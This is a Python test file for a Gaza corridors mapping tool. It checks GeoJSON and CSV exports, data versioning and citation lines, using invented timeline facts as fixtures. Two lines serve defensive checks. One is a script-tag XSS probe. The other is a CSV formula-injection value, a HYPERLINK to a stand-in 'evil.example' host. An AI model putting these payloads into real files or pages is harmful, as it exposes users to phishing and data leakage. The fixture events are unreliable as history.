"""Downloads and citation: the data version, the view's GeoJSON and CSV, the citation line."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from datetime import date
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
import shapely

import geo
from geo import share
from geo.bundle import Bundle
from geo.measure import area_km2
from geo.report import shape_of
from geo.urlstate import View
from tests.conftest import LayersCopy

AUG_22 = date(2024, 8, 22)
LINK = "https://example.org/?date=2024-08-22&layers=presence,demands"
ACCESSED = date(2026, 12, 2)
# The region the strip lies in: any coordinate outside it is swapped or in the wrong CRS.
LON, LAT = (34.0, 34.7), (31.1, 31.7)


def load(lc: LayersCopy) -> Bundle:
    return geo.load_bundle(lc.root)


def geojson(bundle: Bundle, view: View, **kw: Any) -> dict[str, Any]:
    out: dict[str, Any] = json.loads(share.view_geojson(bundle, view, **kw))
    return out


def read_csv(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), comment="#", dtype=str, keep_default_na=False)


def comments(text: str) -> dict[str, str]:
    """The leading ``# key: value`` lines (a line inside a quoted cell may start with ``#`` too)."""
    meta = {}
    for line in text.splitlines():
        if not line.startswith("# "):
            break
        key, value = line[2:].split(": ", 1)
        meta[key] = value
    return meta


def cited(doc: dict[str, Any]) -> set[str]:
    return {fid for f in doc["features"] for fid in f["properties"]["facts"]}


# ---- the data version ----------------------------------------------------------------------


def test_the_same_data_gives_the_same_version(bundle: Bundle, layers_copy: LayersCopy) -> None:
    copy = load(layers_copy)
    assert share.data_version(copy) == share.data_version(bundle)  # the folder's place does not count
    assert re.fullmatch(r"[0-9a-f]{12}", share.data_version(bundle))


def test_a_changed_table_changes_the_version(bundle: Bundle, layers_copy: LayersCopy) -> None:
    layers_copy.edit_row("timeline.csv", "id", "T029", summary="Per Reuters, Egypt wants Israel to leave.")
    assert share.data_version(load(layers_copy)) != share.data_version(bundle)


def test_a_changed_geometry_changes_the_version(bundle: Bundle, layers_copy: LayersCopy) -> None:
    data = layers_copy.geojson("places.geojson")
    x, y = data["features"][0]["geometry"]["coordinates"]
    data["features"][0]["geometry"]["coordinates"] = [x + 0.0001, y]
    layers_copy.write_geojson("places.geojson", data)
    assert share.data_version(load(layers_copy)) != share.data_version(bundle)


def test_the_version_note_speaks_only_when_the_data_changed(bundle: Bundle) -> None:
    now = share.data_version(bundle)
    assert share.version_note(None, bundle) is None
    assert share.version_note("", bundle) is None
    assert share.version_note(now, bundle) is None
    assert share.version_note(now.upper(), bundle) is None
    note = share.version_note("0123456789ab", bundle)
    assert note is not None and "0123456789ab" in note and now in note and "changed" in note


def test_an_unreadable_version_is_not_echoed(bundle: Bundle) -> None:
    note = share.version_note("<script>alert(1)</script>", bundle)
    assert note is not None and "<script>" not in note and share.data_version(bundle) in note


# ---- GeoJSON -------------------------------------------------------------------------------


def polygons(geometry: dict[str, Any]) -> list[list[list[list[float]]]]:
    if geometry["type"] == "Polygon":
        return [geometry["coordinates"]]
    if geometry["type"] == "MultiPolygon":
        return list(geometry["coordinates"])
    return []


def positions(coords: Any) -> list[list[float]]:
    if isinstance(coords[0], int | float):
        return [coords]
    return [p for c in coords for p in positions(c)]


def signed_area(ring: list[list[float]]) -> float:
    return sum(x0 * y1 - x1 * y0 for (x0, y0), (x1, y1) in itertools.pairwise(ring)) / 2


@pytest.mark.parametrize("day", [date(2005, 9, 5), AUG_22, date(2025, 10, 20), date(2027, 1, 1)])
def test_geojson_is_rfc_7946(bundle: Bundle, day: date) -> None:
    doc = geojson(bundle, View(date=day))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert [f["id"] for f in doc["features"]] == list(bundle.zones)
    polygons_seen = 0
    for f in doc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        g = f["geometry"]
        if g is None:  # unmapped, or no width reported yet: kept, with what was said about it
            assert shape_of(bundle, f["id"], day) is None
            continue
        assert g["type"] in ("Point", "LineString", "Polygon", "MultiPolygon")
        for x, y in positions(g["coordinates"]):
            assert LON[0] < x < LON[1] and LAT[0] < y < LAT[1]  # longitude first
            assert round(x, 6) == x and round(y, 6) == y
        for poly in polygons(g):
            polygons_seen += 1
            assert all(len(ring) >= 4 and ring[0] == ring[-1] for ring in poly)  # closed rings
            assert signed_area(poly[0]) > 0  # exterior anticlockwise (the right-hand rule)
            assert all(signed_area(hole) < 0 for hole in poly[1:])
    # the bands come out of shapely clockwise, so the rule above is enforced, not inherited
    assert polygons_seen >= 1


def test_geojson_round_trips_through_geopandas(bundle: Bundle, tmp_path: Path) -> None:
    text = share.view_geojson(bundle, View(date=AUG_22), link=LINK, accessed=ACCESSED)
    path = tmp_path / "view.geojson"
    path.write_text(text, encoding="utf-8")
    frame = gpd.read_file(path)
    assert frame.crs.to_epsg() == 4326
    assert list(frame["zone"]) == list(bundle.zones)
    for row in frame.itertuples():
        s = shape_of(bundle, str(row.zone), AUG_22)
        if s is None:
            assert row.geometry is None
            continue
        assert shapely.equals_exact(row.geometry.normalize(), s.geometry.normalize(), tolerance=2e-6) or (
            row.geometry.symmetric_difference(s.geometry).area < 1e-9
        )
        if s.area_km2 is not None:  # measured in EPSG:32636, not in degrees
            assert row.area_km2 == pytest.approx(area_km2(row.geometry), abs=0.01)
            assert 0 < row.area_km2 < 400


def test_geojson_carries_names_quality_sources_and_papers(bundle: Bundle) -> None:
    doc = geojson(bundle, View(date=AUG_22), link=LINK, accessed=ACCESSED)
    assert doc["date"] == "2024-08-22" and doc["link"] == LINK
    assert doc["data_version"] == share.data_version(bundle)
    assert doc["citation"] == share.citation(bundle, View(date=AUG_22), link=LINK, accessed=ACCESSED)
    assert "ODbL-1.0" in doc["licence"] and "CC-BY-4.0" in doc["licence"]
    assert "OpenStreetMap contributors" in doc["attribution"]
    zones = {f["id"]: f["properties"] for f in doc["features"]}
    phil = zones["philadelphi"]
    assert phil["name"] == bundle.zones["philadelphi"].name and phil["name_ar"] and phil["name_he"]
    assert zones["perimeter_buffer"]["name_ar"] is None  # the data has none
    assert phil["quality"] == "schematic" and phil["width_m"] > 0
    assert {p["actor"]: p["status"] for p in phil["presence"]} == {"IDF": "established"}
    demands = {d["actor"]: d for d in phil["demands"]}
    assert demands["Egypt"]["position"] == "withdraw" and demands["Egypt"]["fact"] == "T029"
    assert demands["Egypt"]["stated"] == "2024-08-22"
    assert demands["Egypt"]["in_words"] == "Egypt: Israeli forces should withdraw"
    assert demands["Israel_government"]["statements"] == ["T009", "T021", "T026"]
    for f in doc["features"]:
        p = f["properties"]
        claims = [*p["presence"], *p["demands"]]
        assert {c["fact"] for c in claims} <= set(p["facts"])
        for fact in p["facts"].values():
            assert fact["confidence"] in ("high", "medium", "low")
            assert {"title", "publisher", "url", "published"} <= fact["source"].keys()
    source = bundle.source_of(bundle.fact("T029"))
    assert phil["facts"]["T029"]["source"]["title"] == source.title


def test_licence_names_each_licence_from_the_manifest(bundle: Bundle) -> None:
    text = share.licence_text(bundle)
    for entry in bundle.files:
        if entry.file in ("gaza_strip.geojson", "corridor_axes.geojson", "timeline.csv", "sources.csv"):
            assert entry.file in text and entry.licence in text
    assert "background.geojson" not in text  # not part of a view's files
    assert "MIT" not in text.split(". ")[0]  # the code's licence is not the data's


def test_switched_off_overlays_and_actors_are_absent(bundle: Bundle) -> None:
    everything = geojson(bundle, View(date=AUG_22))
    said = [d for f in everything["features"] for d in f["properties"]["demands"]]
    assert {"Egypt", "Hamas", "Israel_government"} <= {d["actor"] for d in said}

    view = View(date=AUG_22, overlays=("demands",), actors=("Egypt",))
    doc = geojson(bundle, view)
    assert doc["view"] == {"overlays": ["demands"], "actors": ["Egypt"]}
    demands = [d for f in doc["features"] for d in f["properties"]["demands"]]
    assert demands and {d["actor"] for d in demands} == {"Egypt"}
    assert all("presence" not in f["properties"] for f in doc["features"])
    assert cited(doc) == {s for d in demands for s in d["statements"]}
    rows = read_csv(share.view_csv(bundle, view))
    assert len(rows) == len(demands) and set(rows["actor"]) == {"Egypt"} and set(rows["kind"]) == {"demand"}

    nothing = View(date=AUG_22, overlays=(), actors=None)
    doc = geojson(bundle, nothing)
    assert all({"presence", "demands"}.isdisjoint(f["properties"]) for f in doc["features"])
    assert cited(doc) == set()
    assert read_csv(share.view_csv(bundle, nothing)).empty

    nobody = geojson(bundle, View(date=AUG_22, actors=()))
    assert cited(nobody) == set()


def test_facts_dated_after_the_day_never_appear(layers_copy: LayersCopy) -> None:
    layers_copy.add_row(
        "timeline.csv",
        id="T900",
        date="2024-08-23",
        date_precision="day",
        kind="demand",
        zone="netzarim",
        actor="Egypt",
        status="withdraw",
        summary="Egypt's foreign ministry said Israeli forces should leave the Netzarim Corridor.",
        source_id="S028",
        confidence="medium",
    )
    layers_copy.add_row(
        "timeline.csv",
        id="T901",
        date="2024-08-23",
        date_precision="day",
        kind="presence",
        zone="morag",
        actor="Hamas",
        status="established",
        summary="According to the report, Hamas fighters held positions near Morag.",
        source_id="S028",
        confidence="low",
    )
    bundle = load(layers_copy)
    for day, shown in ((AUG_22, False), (date(2024, 8, 23), True)):
        view = View(date=day)
        text = share.view_geojson(bundle, view) + share.view_csv(bundle, view)
        assert ("T900" in text) is shown and ("T901" in text) is shown
        hamas = [
            p
            for f in geojson(bundle, view)["features"]
            for p in f["properties"]["presence"]
            if p["actor"] == "Hamas"
        ]
        assert bool(hamas) is shown


def test_no_export_cites_a_later_fact_but_an_implying_withdrawal(bundle: Bundle) -> None:
    days = sorted({f.date for f in bundle.facts})
    for day in days:
        view = View(date=day)
        implied = {p.implied_by for p in bundle.state_at(day).presence if p.implied_by}
        late = {fid for fid in cited(geojson(bundle, view)) if bundle.fact(fid).date > day}
        assert late <= implied, (day, late)
        rows = read_csv(share.view_csv(bundle, view))
        late_rows = {fid for fid in rows["fact"] if bundle.fact(fid).date > day}
        assert late_rows <= implied, (day, late_rows)


def test_a_day_past_the_data_says_so(bundle: Bundle) -> None:
    view = View(date=date(2027, 1, 1))
    assert "notice" in geojson(bundle, view)
    assert "notice" in comments(share.view_csv(bundle, view))
    assert "notice" not in geojson(bundle, View(date=AUG_22))


# ---- CSV -----------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?a=1,b=2","click"), Egypt said "no";\n# not a comment, 2nd line'


def test_csv_round_trips_hostile_text_and_defuses_formulas(layers_copy: LayersCopy) -> None:
    layers_copy.edit_row("timeline.csv", "id", "T029", summary=HOSTILE)
    layers_copy.edit_row("timeline.csv", "id", "T024", summary="+1 Hamas said, per Reuters")
    layers_copy.edit_row("timeline.csv", "id", "T025", summary="-1 Hamas said")
    layers_copy.edit_row("timeline.csv", "id", "T030", summary="@SUM(A1) the WSJ reported")
    bundle = load(layers_copy)
    assert bundle.fact("T029").summary == HOSTILE  # the fixture took
    text = share.view_csv(bundle, View(date=AUG_22), link=LINK + "\nnext", accessed=ACCESSED)
    rows = read_csv(text)
    assert tuple(rows.columns) == share.CSV_COLUMNS
    by_fact = {r["fact"]: r for r in rows.to_dict("records")}
    assert by_fact["T029"]["summary"] == "'" + HOSTILE
    assert by_fact["T024"]["summary"].startswith("'+1 ")
    assert by_fact["T025"]["summary"].startswith("'-1 ")
    assert by_fact["T030"]["summary"].startswith("'@SUM")
    assert by_fact["T029"]["actor"] == "Egypt" and by_fact["T029"]["kind"] == "demand"
    assert by_fact["T029"]["status_or_position"] == "withdraw"
    assert by_fact["T029"]["in_words"] == "Egypt: Israeli forces should withdraw"
    # the csv module reads the same rows after the leading comment lines (only those: a line
    # of a quoted cell may start with "#" too)
    lines = text.splitlines(keepends=True)
    header = next(i for i, line in enumerate(lines) if not line.startswith("# "))
    plain = list(csv.DictReader(io.StringIO("".join(lines[header:]))))
    assert [r["summary"] for r in plain] == list(rows["summary"])
    meta = comments(text)
    assert meta["link"] == LINK + " next"  # a newline in the link cannot end the comment early
    assert {"licence", "attribution", "data_version", "citation", "date"} <= meta.keys()


def test_csv_has_one_row_per_standing_claim_with_its_source(bundle: Bundle) -> None:
    view = View(date=AUG_22)
    rows = read_csv(share.view_csv(bundle, view, link=LINK, accessed=ACCESSED))
    state = bundle.state_at(AUG_22)
    expected = {(p.zone, p.actor, "presence") for p in state.presence}
    expected |= {(p.zone, p.actor, "demand") for p in (*state.demands, *state.aged)}
    keys = list(zip(rows["zone"], rows["actor"], rows["kind"], strict=True))
    assert len(keys) == len(set(keys)) and set(keys) == expected
    assert set(rows["date"]) == {"2024-08-22"}
    egypt = rows[(rows["fact"] == "T029")].iloc[0]
    source = bundle.source_of(bundle.fact("T029"))
    assert (egypt["source_title"], egypt["publisher"], egypt["url"]) == (
        source.title,
        source.publisher,
        source.url,
    )
    assert egypt["geometry_quality"] == "schematic" and egypt["confidence"] == "high"
    idf = rows[(rows["zone"] == "philadelphi") & (rows["kind"] == "presence")].iloc[0]
    assert idf["status_or_position"] == "established" and idf["since"] == "2024-05-29"
    meta = comments(share.view_csv(bundle, view, link=LINK, accessed=ACCESSED))
    assert meta["data_version"] == share.data_version(bundle) and meta["link"] == LINK


def test_every_day_lists_its_positions_in_force_and_aged(bundle: Bundle) -> None:
    aged_seen = 0
    for day in sorted({f.date for f in bundle.facts}):
        rows = read_csv(share.view_csv(bundle, View(date=day)))
        state = bundle.state_at(day)
        demands = rows[rows["kind"] == "demand"]
        assert len(demands) == len(state.demands) + len(state.aged)
        aged = demands[demands["standing"] == "aged"]
        assert set(aged["fact"]) == {p.fact for p in state.aged}
        assert all("ago" in note for note in aged["note"])  # with its age, in words
        aged_seen += len(aged)
    assert aged_seen  # the rule above was exercised


# ---- citation ------------------------------------------------------------------------------


def test_citation_names_the_day_the_version_and_the_link(bundle: Bundle) -> None:
    line = share.citation(bundle, View(date=AUG_22), link=LINK, accessed=ACCESSED)
    year = (bundle.researched or bundle.data_as_of).year
    assert line.startswith(f"Gaza Corridors Map contributors. ({year}). Gaza Corridors Map")
    assert "22 August 2024" in line and share.data_version(bundle) in line and "[Data set]" in line
    assert "Retrieved 2 December 2026" in line and line.endswith(LINK)  # no full stop after a URL
    bare = share.citation(bundle, View(date=AUG_22), link=None, accessed=None)
    assert bare.endswith("[Data set].") and "Retrieved" not in bare


def test_citation_year_follows_the_research_date(layers_copy: LayersCopy) -> None:
    manifest = json.loads((layers_copy.root / "manifest.json").read_text(encoding="utf-8"))
    manifest["researched"] = "2031-03-01"
    (layers_copy.root / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    line = share.citation(load(layers_copy), View(date=AUG_22), link=LINK, accessed=ACCESSED)
    assert "(2031)" in line
